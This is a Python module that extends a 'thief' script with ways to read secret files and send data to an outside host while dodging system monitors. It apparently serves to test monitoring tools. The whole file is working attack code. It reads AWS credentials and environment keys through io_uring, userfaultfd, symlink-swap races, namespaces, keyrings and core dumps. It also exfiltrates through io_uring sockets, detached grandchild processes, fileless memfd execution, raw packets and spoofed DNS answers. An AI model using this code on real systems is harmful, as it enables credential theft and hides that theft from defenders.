# SPDX-License-Identifier: Apache-2.0
"""A thief who knows how watchers watch: asks the kernel by ways on which a path, a name or a clock may be missed. Same
words as thief.py, with these ways beside its own."""
import ctypes
import errno
import fcntl
import glob
import mmap
import os
import random
import socket
import string
import struct
import subprocess
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import thief  # noqa: E402
from thief import FREE, LIBC, must, read, read_fd  # noqa: E402

_RENAMEAT2, _USERFAULTFD, _RING_SETUP, _RING_ENTER = 316, 323, 425, 426
_ADD_KEY, _KEYCTL, _USER_KEYRING = 248, 250, -4
_OPENAT, _NEWTIME = 257, 0x80


def unable(why):
    raise OSError(errno.EOPNOTSUPP, why)


def address_of(memory):
    """Without touching it."""
    return ctypes.addressof(ctypes.c_char.from_buffer(memory))


def open_at(address):
    return must(LIBC.syscall(_OPENAT, -100, ctypes.c_void_p(address), os.O_RDONLY))


# ---- takes

class Ring:
    """One request at a time over io_uring."""
    WORKER, POLLER = 1 << 4, 2  # a flag of a request, and one of the ring

    def __init__(self, flags=0):
        params = bytearray(120)
        struct.pack_into("<III", params, 8, flags, 0, 1000)
        self.fd = must(LIBC.syscall(_RING_SETUP, 4, (ctypes.c_ubyte * 120).from_buffer(params)))
        self.polled = bool(flags & self.POLLER)
        words = struct.unpack("<30I", params)
        self.sq, self.cq = words[10:18], words[20:28]
        both = mmap.MAP_SHARED | mmap.MAP_POPULATE
        self.asked = mmap.mmap(self.fd, self.sq[6] + words[0] * 4, flags=both, offset=0)
        self.answered = mmap.mmap(self.fd, self.cq[5] + words[1] * 16, flags=both, offset=0x8000000)
        self.requests = mmap.mmap(self.fd, words[0] * 64, flags=both, offset=0x10000000)

    def do(self, what, fd, address, length, offset=0, how=0, flags=0):
        """The answer to one request."""
        word = lambda memory, at: struct.unpack_from("<I", memory, at)[0]
        self.requests[:64] = struct.pack("<BBHiQQIIQ", what, flags, 0, fd, offset, address, length, how, 7) + bytes(24)
        tail = word(self.asked, self.sq[1])
        struct.pack_into("<I", self.asked, self.sq[6] + 4 * (tail & word(self.asked, self.sq[2])), 0)
        struct.pack_into("<I", self.asked, self.sq[1], tail + 1)
        must(LIBC.syscall(_RING_ENTER, self.fd, 1, 1, 3 if self.polled else 1, None, 0))
        head = word(self.answered, self.cq[0])
        at = self.cq[5] + 16 * (head & word(self.answered, self.cq[2]))
        got = struct.unpack_from("<i", self.answered, at + 8)[0]
        struct.pack_into("<I", self.answered, self.cq[0], head + 1)
        if got < 0:
            raise OSError(-got, os.strerror(-got))
        return got


def by_ring(flags=0, of_request=0):
    """Opened and read over io_uring: no system call is an open."""
    def take(path):
        ring, name = Ring(flags), ctypes.create_string_buffer(os.fsencode(path))
        file = ring.do(18, -100, ctypes.addressof(name), 0, how=os.O_RDONLY, flags=of_request)
        data = ctypes.create_string_buffer(4096)
        assert ring.do(22, file, ctypes.addressof(data), 4096, flags=of_request), "nothing was read"
    return take


def by_page_that_is_not_there(path):
    """The path lies in a page that must be fetched from its file first."""
    with open(FREE + "/page", "w+b") as file:
        file.write(os.fsencode(path).ljust(4096, b"\0"))
        file.flush()
        os.fsync(file.fileno())
        page = mmap.mmap(file.fileno(), 4096, access=mmap.ACCESS_COPY)
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        page.madvise(mmap.MADV_DONTNEED)
        read_fd(open_at(address_of(page)))


def by_page_that_is_held_back(path):
    """The path's page comes half a second after the open has begun (userfaultfd)."""
    faults = must(LIBC.syscall(_USERFAULTFD, os.O_CLOEXEC))
    fcntl.ioctl(faults, 0xC018AA3F, bytearray(struct.pack("<QQQ", 0xAA, 0, 0)))
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    at = address_of(page)
    fcntl.ioctl(faults, 0xC020AA00, bytearray(struct.pack("<QQQQ", at, 4096, 1, 0)))
    text = ctypes.create_string_buffer(os.fsencode(path).ljust(4096, b"\0"), 4096)

    def bring():
        time.sleep(0.5)
        fcntl.ioctl(faults, 0xC028AA03, bytearray(struct.pack("<QQQQq", at, ctypes.addressof(text), 4096, 0, 0)))
    threading.Thread(target=bring).start()
    read_fd(open_at(at))


def by_flipped_path(path):
    """Two names change places all the time: what is asked for is not what is opened."""
    harmless, name, other = FREE + "/harmless", FREE + "/one", FREE + "/other"
    with open(harmless, "w") as file:
        file.write("nothing\n")
    os.symlink(harmless, name)
    os.symlink(path, other)
    ends = time.monotonic() + 5

    def flip():
        while time.monotonic() < ends:
            LIBC.syscall(_RENAMEAT2, -100, name.encode(), -100, other.encode(), 2)
    threading.Thread(target=flip, daemon=True).start()
    while read(name) == b"nothing\n":
        assert time.monotonic() < ends, "it was never the other one"
    ends = 0


def go_on_as_child():
    """What follows is done by a child: only children live in what was unshared."""
    child = os.fork()
    if child:
        os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))


def by_other_time(path):
    """Where the clocks that count from the boot are ten days ahead."""
    must(LIBC.unshare(_NEWTIME))
    with open("/proc/self/timens_offsets", "w") as file:
        file.write("monotonic 864000 0\nboottime 864000 0\n")
    go_on_as_child()
    read(path)


def by_other_names(path):
    """As the first process of namespaces of its own: users, processes, cgroups, host name, messages."""
    must(LIBC.unshare(0x10000000 | 0x20000000 | 0x02000000 | 0x04000000 | 0x08000000))
    go_on_as_child()
    assert os.getpid() == 1
    read(path)


def by_child_in_shared_memory(path):
    """A fork reads it and leaves it in memory that both have."""
    both = mmap.mmap(-1, 4096)
    child = os.fork()
    if child == 0:
        text = read(path)
        both[:len(text)] = text
        time.sleep(0.3)
        os._exit(0)
    os.waitpid(child, 0)
    assert both[:1] != b"\0"


def by_mounted_image(image):
    """A disk image, mounted in mounts of one's own."""
    must(LIBC.unshare(0x20000))
    must(LIBC.mount(None, b"/", None, ctypes.c_ulong(16384 | 1 << 18), None))
    done = subprocess.run(["/usr/bin/mount", "-o", "loop,ro", image, FREE], capture_output=True, check=False)
    if done.returncode:
        unable("mount -o loop: " + done.stderr.decode(errors="replace").strip())
    read(FREE + "/.aws/credentials")


def with_other_environment(_):
    """Writes another key id over the one that stands in the environment it was started with."""
    with open("/proc/self/stat") as file:
        first, last = (int(word) for word in file.read().rsplit(")", 1)[1].split()[47:49])
    block = (ctypes.c_char * (last - first)).from_address(first)
    at = block.raw.index(b"AWS_ACCESS_KEY_ID=") + len(b"AWS_ACCESS_KEY_ID=")
    other = "AKIA" + "".join(random.SystemRandom().choices(string.ascii_uppercase + "234567", k=16))
    block[at:at + 20] = other.encode()
    assert other.encode() in read("/proc/self/environ"), "it is not shown"


def into_keyring(path):
    """Leaves the file's text to every process of this user, in the kernel's keyring."""
    text, name = read(path), f"attack of {path}".encode()
    key = must(LIBC.syscall(_ADD_KEY, b"user", name, text, len(text), _USER_KEYRING))
    must(LIBC.syscall(_KEYCTL, 5, key, 0x3F3F0000))  # its user may read it, too


def from_keyring(path):
    key = LIBC.syscall(_KEYCTL, 10, _USER_KEYRING, b"user", f"attack of {path}".encode(), 0)
    if key < 0:
        unable("the keyring holds nothing for another process here")
    data = ctypes.create_string_buffer(4096)
    assert must(LIBC.syscall(_KEYCTL, 11, key, data, 4096)), "nothing was read"
    must(LIBC.syscall(_KEYCTL, 9, key, _USER_KEYRING))


def from_core_dump(_):
    """Of a program that was made to crash."""
    limit = time.monotonic() + 3
    while not (found := glob.glob(FREE + "/core*")):
        if time.monotonic() > limit:
            unable("this machine keeps no core dumps")
        time.sleep(0.05)
    read(found[0])


thief.TAKES.update({
    "ring": by_ring(), "ring_worker": by_ring(of_request=Ring.WORKER), "ring_poller": by_ring(Ring.POLLER),
    "page": by_page_that_is_not_there, "held_page": by_page_that_is_held_back, "flip": by_flipped_path,
    "other_time": by_other_time, "other_names": by_other_names, "shared_memory": by_child_in_shared_memory,
    "image": by_mounted_image, "other_environment": with_other_environment,
    "into_keyring": into_keyring, "keyring": from_keyring, "core": from_core_dump})


# ---- outs

def out_ring(host, port):
    """Connected over io_uring."""
    sock = socket.socket()
    where, number = thief.address(host, port)
    to = ctypes.create_string_buffer(struct.pack("<H", socket.AF_INET) + struct.pack("!H", number)
                                     + socket.inet_aton(where) + bytes(8), 16)
    Ring().do(16, sock.fileno(), ctypes.addressof(to), 0, offset=16)
    thief.talk(sock, host)


def out_daemon(host, port):
    """By a grandchild in a session of its own, whose parent is gone."""
    ended, tell = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.1)
            thief.talk(thief.connected(host, port), host)
            os.write(tell, b"x")
            time.sleep(0.3)
        os._exit(0)
    os.close(tell)
    os.wait()
    assert os.read(ended, 1), "the grandchild failed"


def out_memory_program(host, port):
    """By a program whose file is nowhere: it lies in memory alone."""
    program, file = os.memfd_create("x", 0), os.open(os.path.realpath(sys.executable), os.O_RDONLY)
    while os.sendfile(program, file, None, 1 << 20):
        pass
    os.close(file)
    words = [sys.executable, "-I", thief.__file__, "out", "plain", host, port]
    os.execve(f"/proc/self/fd/{program}", words, dict(os.environ))


def out_raw(host, _):
    """A packet of no protocol that has ports."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b"anything", (host, 0))


def answer_with(question, address):
    """The answer to a DNS question: this address, whatever was asked."""
    end = question.index(b"\0", 12) + 5
    return (question[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + question[12:end]
            + b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + socket.inet_aton(address))


def lied_to(address, name):
    """Asks a name server of one's own, which says that the name has this address."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((f"127.{random.randrange(1, 255)}.{random.randrange(256)}.{random.randrange(1, 255)}", 53))

    def lie():
        question, who = server.recvfrom(512)
        server.sendto(answer_with(question, address), who)
    threading.Thread(target=lie, daemon=True).start()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(5)
    sock.connect(server.getsockname())
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    sock.send(struct.pack("!HHHHHH", random.randrange(1 << 16), 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1")
    assert sock.recv(512)


def out_own_name_server(host, port):
    """HOST is ADDRESS=NAME."""
    where, _, name = host.partition("=")
    lied_to(where, name)
    thief.talk(socket.create_connection((where, int(port))), name)


def out_lie_for_others(host, _):
    where, _, name = host.partition("=")
    lied_to(where, name)


def out_many_places(host, port):
    """HOST is NETWORK/COUNT: a datagram to so many of its addresses."""
    network, _, count = host.partition("/")
    for number in range(int(count)):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"anything", (f"{network}.{number + 1}", int(port)))


thief.OUTS.update({"ring": out_ring, "daemon": out_daemon, "memory_program": out_memory_program, "raw": out_raw,
                   "own_name_server": out_own_name_server, "lie_for_others": out_lie_for_others,
                   "many_places": out_many_places})

if __name__ == "__main__":
    thief.main(sys.argv[1:])
